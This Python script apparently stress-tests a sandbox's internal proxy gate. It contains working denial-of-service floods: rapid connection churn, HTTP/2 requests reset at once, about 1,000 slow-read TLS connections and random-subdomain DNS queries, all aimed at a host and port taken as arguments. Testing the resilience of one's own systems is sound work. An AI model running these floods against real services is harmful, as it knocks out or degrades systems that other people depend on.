#!/usr/bin/python3
"""What one sandbox does to annoy the others: floods of the gate, for so many seconds.

usage: flood.py connections|h2|slow|dns SECONDS HOST PORT [BIG]

connections  opens connections as fast as it can, and closes them
h2           HTTP/2 requests that are reset at once, on connection after connection
slow         1,000 connections that ask for BIG and read a little of it now and then
dns          questions for names that are new each time, and answers left unread

Through the explicit proxy of the sandbox, or with FLOOD_STRAIGHT=ADDRESS:PORT straight to a server there. Prints how many of
them it managed."""
import os
import resource
import select
import socket
import ssl
import struct
import sys
import time

PROXY = ("gate.durward.internal", 3128)
STRAIGHT = os.environ.get("FLOOD_STRAIGHT")
AT_ONCE = 200
SLOW = 1000


def proxy():
    if STRAIGHT:
        address, port = STRAIGHT.rsplit(":", 1)
        return address, int(port)
    return socket.getaddrinfo(*PROXY, socket.AF_INET, socket.SOCK_STREAM)[0][4]


def connections(end):
    n, at, held = 0, proxy(), []
    while time.monotonic() < end:
        s = socket.socket()
        s.setblocking(False)
        s.connect_ex(at)
        held.append(s)
        n += 1
        if len(held) >= AT_ONCE:
            for s in held:
                s.close()
            held = []
    return n


def ask(raw, host, port):
    authority = "%s:%s" % (host, port)
    raw.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode())
    got = b""
    while b"\r\n\r\n" not in got:
        more = raw.recv(4096)
        if not more:
            raise OSError("closed")
        got += more
    if b" 200" not in got[:13]:
        raise OSError(got[:40].decode("latin-1"))


def tls(at, host, port, alpn):
    raw = socket.create_connection(at, 10)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    if not STRAIGHT:
        ask(raw, host, port)
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols([alpn])
    return context.wrap_socket(raw, server_hostname=host)


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def h2(end, host, port):
    n, at = 0, proxy()
    block = b"".join(literal(*x) for x in (
        (b":method", b"GET"), (b":scheme", b"https"), (b":authority", ("%s:%s" % (host, port)).encode()),
        (b":path", b"/small")))
    requests = [frame(1, 5, i, block) + frame(3, 0, i, struct.pack(">I", 8)) for i in range(1, 2000, 2)]
    while time.monotonic() < end:
        try:
            with tls(at, host, port, "h2") as s:
                s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
                for i in range(0, len(requests), 20):
                    s.sendall(b"".join(requests[i:i + 20]))
                    n += 20
        except OSError:
            continue  # it had enough of us
    return n


def slow(end, host, port, big):
    at, held = proxy(), []
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(4096, resource.getrlimit(resource.RLIMIT_NOFILE)[1]),) * 2)
    while time.monotonic() < end and len(held) < SLOW:
        try:
            s = tls(at, host, port, "http/1.1")
            s.sendall(("GET %s HTTP/1.1\r\nHost: %s:%s\r\n\r\n" % (big, host, port)).encode())
            s.setblocking(False)
            held.append(s)
        except OSError:
            break  # no more than so many
    while time.monotonic() < end:
        for s in held:
            try:
                s.recv(64)
            except OSError:
                pass
        time.sleep(0.05)
    return len(held)


def dns(end):
    at = STRAIGHT and proxy()
    if not at:
        with open("/etc/resolv.conf") as f:
            at = next(x.split()[1] for x in f if x.startswith("nameserver")), 53
    s = socket.socket(socket.AF_INET6 if ":" in at[0] else socket.AF_INET, socket.SOCK_DGRAM)
    s.setblocking(False)
    n = 0
    stem = "x%d" % os.getpid()
    while time.monotonic() < end:
        label = ("%s-%d" % (stem, n)).encode()
        question = struct.pack(">HHHHHH", n & 0xffff, 0x100, 1, 0, 0, 0) + bytes([len(label)]) + label + \
            b"\x07example\x03com\0" + struct.pack(">HH", 1, 1)
        try:
            s.sendto(question, at)
            n += 1
        except OSError:
            select.select([], [s], [], 0.01)
    return n


def main():
    what, seconds, host, port = sys.argv[1:5]
    end = time.monotonic() + float(seconds)
    if what == "connections":
        n = connections(end)
    elif what == "h2":
        n = h2(end, host, port)
    elif what == "slow":
        n = slow(end, host, port, sys.argv[5])
    else:
        n = dns(end)
    print(n)


main()
